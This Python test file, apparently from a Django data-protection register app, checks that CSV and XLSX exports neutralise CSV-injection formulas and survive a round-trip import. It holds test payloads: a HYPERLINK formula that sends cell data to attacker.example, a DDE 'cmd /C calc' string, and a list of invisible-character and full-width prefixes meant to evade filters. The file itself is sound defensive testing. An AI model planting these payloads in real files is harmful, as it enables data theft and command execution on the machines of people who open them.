"""
Formula-looking text in every file the register goes out in (OWASP "CSV
injection", STACK.md): a formula hidden behind blanks, invisible characters,
line breaks or quotes, or written with a full-width sign, is text in each of
them, and an import of our own file gives it back unchanged.

Each file is read back as a spreadsheet program would read it: CSV with the
csv module, XLSX with openpyxl.
"""

import csv
import datetime
import io
import tempfile
import zipfile
from io import StringIO

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from ropa.core import uploads as import_files
from ropa.enums import ActivityRole
from ropa.exchange import books, layout, xlsx
from ropa.exchange.columns import Sheet
from ropa.exchange.export import CNIL, ICO
from ropa.exchange.imports import plan_import
from ropa.models import ProcessingActivity
from ropa.review.render import CSV_COLUMNS
from subjects.models import DataSubjectCategory
from tests.factories import (
    DataSubjectCategoryFactory,
    GroupCompanyFactory,
    OrganisationFactory,
    ProcessingActivityFactory,
    ReviewFactory,
)
from tests.ropa.core.test_resources import (
    LIST_FORMATS,
    confirm,
    dpo_member,
    export,
    logged_in,
    preview,
    rows,
)
from tests.ropa.core.test_spreadsheet import (
    PROPERTY,
    any_text,
    hidden_formula,
    may_run,
)

pytestmark = pytest.mark.django_db

PAYLOAD = 'HYPERLINK("https://attacker.example/?d="&A1,"Click")'
# The finding's prefixes: blanks, invisible characters, line breaks and
# quotes before a formula's sign, and full-width signs.
FINDING_PREFIXES = {
    "spaces": "   =",
    "tab and space": "\t =",
    "no-break space": "\u00a0=",
    "zero-width space": "\u200b=",
    "zero-width joiner": "\u200d+",
    "byte order mark": "\ufeff@",
    "line feed": "\n=",
    "CR LF": "\r\n-",
    "double quote": '"=',
    "apostrophe": "'=",
    "typographic quote": "\u201c=",
    "full-width equals": "\uff1d",
    "full-width plus": "\uff0b",
    "full-width minus": "\uff0d",
    "full-width at": "\uff20",
}
# More of the same, which the rule before #15 let through.
MORE_PREFIXES = {
    "space and apostrophe": " '=",
    "left-to-right mark": "\u200e=",
    "right-to-left override": "\u202e=",
    "soft hyphen": "\u00ad=",
    "Hangul filler": "\u3164=",
    "blank Braille pattern": "\u2800+",
    "combining accent": "\u0301=",
    "guillemet": "\u00ab=",
    "low-9 quote": "\u201a=",
    "full-width quote": "\uff02=",
    "corner bracket": "\u300c=",
    "small equals": "\ufe66",
    "superscript plus": "\u207a",
    "minus sign": "\u2212",
    "space and tab": " \t",
}
PREFIXES = {**FINDING_PREFIXES, **MORE_PREFIXES}
# The import reads text without the whitespace around it, as the admin's
# forms save it: a round trip gives back the others exactly.
KEPT_BY_THE_IMPORT = {
    name: prefix for name, prefix in PREFIXES.items() if not prefix[0].isspace()
} | {
    # Text starting with an apostrophe, the mark of text, is written with
    # one more in CSV; in XLSX, as it is.
    "apostrophe alone": "'",
    "two apostrophes": "''=",
}


def _value(prefix):
    return prefix + PAYLOAD


def _by_name(prefixes):
    return pytest.mark.parametrize(
        "prefix", list(prefixes.values()), ids=list(prefixes.keys())
    )


# ---------------------------------------------------------------------------
# Reading files as a spreadsheet does
# ---------------------------------------------------------------------------


def csv_cells(text):
    """Every cell of a CSV text."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def zip_cells(data):
    """Every cell of every CSV file of a zip."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            cell
            for name in archive.namelist()
            for cell in csv_cells(archive.read(name).decode(layout.CSV_ENCODING))
        ]


def xlsx_cells(data):
    """Every cell of every sheet of a workbook, as openpyxl reads it."""
    workbook = load_workbook(io.BytesIO(data))
    return [
        cell
        for worksheet in workbook.worksheets
        for row in worksheet.iter_rows()
        for cell in row
    ]


def assert_csv_neutralised(cells, value):
    """``value`` is in a cell, after the apostrophe that marks it as text."""
    assert "'" + value in cells
    assert value not in cells


def assert_xlsx_text(cells, value):
    """
    ``value`` is a text cell in Excel's quote-prefix style, as typed; no cell
    of the workbook is a formula.
    """
    holding = [cell for cell in cells if cell.value == value]
    assert holding
    for cell in holding:
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


# ---------------------------------------------------------------------------
# The lists' exports and imports (the admin)
# ---------------------------------------------------------------------------

CATEGORIES = "subjects.datasubjectcategory"


@pytest.fixture(autouse=True)
def private_temp_folder(tmp_path, monkeypatch):
    """Uploaded files go to a folder of this test's own."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path / import_files.FOLDER_NAME


@pytest.fixture
def dpo_client():
    return logged_in(dpo_member())


@_by_name(PREFIXES)
def test_list_csv_export_neutralises_a_hidden_formula(dpo_client, prefix):
    DataSubjectCategoryFactory(name="Customers", description=_value(prefix))

    response = export(dpo_client, CATEGORIES, LIST_FORMATS["csv"])

    assert_csv_neutralised(csv_cells(response.content.decode()), _value(prefix))


@_by_name(PREFIXES)
def test_list_xlsx_export_writes_a_hidden_formula_as_text(dpo_client, prefix):
    DataSubjectCategoryFactory(name="Customers", description=_value(prefix))

    response = export(dpo_client, CATEGORIES, LIST_FORMATS["xlsx"])

    assert_xlsx_text(xlsx_cells(response.content), _value(prefix))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@_by_name(KEPT_BY_THE_IMPORT)
def test_list_import_of_its_own_export_gives_the_text_back(dpo_client, fmt, prefix):
    DataSubjectCategoryFactory(name="Customers", description=_value(prefix))
    exported = export(dpo_client, CATEGORIES, LIST_FORMATS[fmt])

    previewed = preview(
        dpo_client,
        CATEGORIES,
        exported.content,
        name=f"categories.{fmt}",
        fmt=LIST_FORMATS[fmt],
    )
    confirm(dpo_client, CATEGORIES, previewed)

    # Skipped: the row reads back as the category it was exported from; a
    # text read otherwise would be a change.
    result = previewed.context["result"]
    assert not result.has_validation_errors()
    assert (result.totals["skip"], result.totals["update"]) == (1, 0)
    assert DataSubjectCategory.objects.get(name="Customers").description == (
        _value(prefix)
    )


def test_list_xlsx_export_reads_back_as_the_rows_it_shows(dpo_client):
    # The export's own reader (``rows``) sees the text, not the apostrophe.
    DataSubjectCategoryFactory(name="Customers", description="'=1+1")

    (row,) = rows(export(dpo_client, CATEGORIES, LIST_FORMATS["xlsx"]))

    assert row["description"] == "'=1+1"


# ---------------------------------------------------------------------------
# The register's exports, as cron runs them
# ---------------------------------------------------------------------------


def export_command(tmp_path, fmt, *options):
    path = tmp_path / f"register.{fmt}"
    call_command(
        "export_register",
        "--format",
        fmt,
        "--output",
        str(path),
        *options,
        stdout=StringIO(),
    )
    return path


@_by_name(PREFIXES)
def test_register_csv_export_neutralises_a_hidden_formula(tmp_path, prefix):
    ProcessingActivityFactory(purpose=_value(prefix))

    path = export_command(tmp_path, "csv")

    assert_csv_neutralised(zip_cells(path.read_bytes()), _value(prefix))


@_by_name(PREFIXES)
def test_register_xlsx_export_writes_a_hidden_formula_as_text(tmp_path, prefix):
    ProcessingActivityFactory(purpose=_value(prefix))

    path = export_command(tmp_path, "xlsx")

    assert_xlsx_text(xlsx_cells(path.read_bytes()), _value(prefix))


@_by_name(KEPT_BY_THE_IMPORT)
def test_register_import_of_its_own_export_changes_nothing(tmp_path, prefix):
    activity = ProcessingActivityFactory(
        purpose=_value(prefix), data_source=prefix + "cmd|' /C calc'!A0"
    )
    path = export_command(tmp_path, "xlsx")

    plan = plan_import(path, file_name=path.name)

    assert not plan.has_errors
    assert not plan.has_writes
    activity = ProcessingActivity.objects.get(pk=activity.pk)
    assert (activity.purpose, activity.data_source) == (
        _value(prefix),
        prefix + "cmd|' /C calc'!A0",
    )


# Regulators' templates: the security description is a cell of its own in
# each, where the activity names no security measures.
@pytest.mark.parametrize("fmt", [ICO, CNIL])
@_by_name(PREFIXES)
def test_controller_templates_write_a_hidden_formula_as_text(tmp_path, fmt, prefix):
    controller = GroupCompanyFactory(slug="acme")
    ProcessingActivityFactory(
        organisations=[controller],
        security_measures=[],
        security_description=_value(prefix),
    )

    path = export_command(tmp_path, fmt, "--controller", "acme")

    assert_xlsx_text(xlsx_cells(path.read_bytes()), _value(prefix))


@_by_name(PREFIXES)
def test_processor_record_writes_a_hidden_formula_as_text(tmp_path, prefix):
    processor = OrganisationFactory(slug="cloud-ops")
    ProcessingActivityFactory(
        role=ActivityRole.PROCESSOR,
        organisations=[processor],
        client_controllers=[OrganisationFactory()],
        security_measures=[],
        security_description=_value(prefix),
    )

    path = export_command(tmp_path, "processor", "--controller", "cloud-ops")

    assert_xlsx_text(xlsx_cells(path.read_bytes()), _value(prefix))


def test_ico_export_writes_a_controllers_hidden_formula_name_as_text(tmp_path):
    # The header block names the controller: its name is a cell of its own.
    GroupCompanyFactory(slug="acme", name="\u200b=cmd|' /C calc'!A0")
    ProcessingActivityFactory(organisations=[GroupCompanyFactory(slug="other")])

    path = export_command(tmp_path, ICO, "--controller", "acme")

    assert_xlsx_text(xlsx_cells(path.read_bytes()), "\u200b=cmd|' /C calc'!A0")


# ---------------------------------------------------------------------------
# The yearly review's CSV
# ---------------------------------------------------------------------------


@_by_name(PREFIXES)
def test_review_csv_neutralises_a_hidden_formula(prefix):
    activity = ProcessingActivityFactory(name=_value(prefix))
    ReviewFactory(activity=activity, cycle=2026, due_on=datetime.date(2026, 2, 1))
    out = StringIO()

    call_command(
        "yearly_review",
        "--as-of",
        "2026-03-01",
        "--dry-run",
        "--format",
        "csv",
        stdout=out,
    )

    [header, *lines] = csv.reader(io.StringIO(out.getvalue()))
    assert header == list(CSV_COLUMNS)
    activities = [line[CSV_COLUMNS.index("activity")] for line in lines]
    assert "'" + _value(prefix) in activities
    assert _value(prefix) not in activities


# ---------------------------------------------------------------------------
# Numbers stay numbers
# ---------------------------------------------------------------------------

NUMBERS = Sheet("Numbers", "numbers.csv", ())


def test_csv_book_writes_a_negative_number_as_it_is_and_text_neutralised():
    out = io.BytesIO()
    with books.CsvBook(out) as book:
        book.sheet(NUMBERS).append([-5, "-5", 2.5, "\uff0d5"])

    assert zip_cells(out.getvalue()) == ["-5", "'-5", "2.5", "'\uff0d5"]


def test_xlsx_book_writes_a_negative_number_as_a_number_and_text_as_text():
    out = io.BytesIO()
    with books.XlsxBook(out) as book:
        book.sheet(NUMBERS).append([-5, "-5", "\u200b-5"])

    number, text, hidden = xlsx_cells(out.getvalue())
    assert (number.value, number.data_type, number.quotePrefix) == (-5, "n", False)
    assert (text.value, text.data_type, text.quotePrefix) == ("-5", "s", True)
    assert (hidden.value, hidden.data_type, hidden.quotePrefix) == (
        "\u200b-5",
        "s",
        True,
    )


# ---------------------------------------------------------------------------
# Any text, through the register's writers
# ---------------------------------------------------------------------------

TEXT = Sheet("Text", "text.csv", ())


@PROPERTY
@given(st.one_of(any_text(), hidden_formula()))
def test_csv_book_cell_never_runs_and_reads_back_as_the_text(text):
    out = io.BytesIO()
    with books.CsvBook(out) as book:
        book.sheet(TEXT).append([text])

    [cell] = zip_cells(out.getvalue())
    assert cell.startswith("'") or not may_run(cell)
    assert layout.from_cell(cell) == text


@PROPERTY
@given(st.one_of(any_text(), hidden_formula()).filter(xlsx.xml_safe))
def test_xlsx_book_cell_is_text_that_reads_back_as_the_text(text):
    out = io.BytesIO()
    with books.XlsxBook(out) as book:
        book.sheet(TEXT).append([text])

    [cell] = xlsx_cells(out.getvalue())
    # What XML cannot hold (most control characters) is left out.
    assert cell.value == xlsx.xml_safe(text)
    assert cell.data_type == "s"
    if may_run(cell.value):
        assert cell.quotePrefix
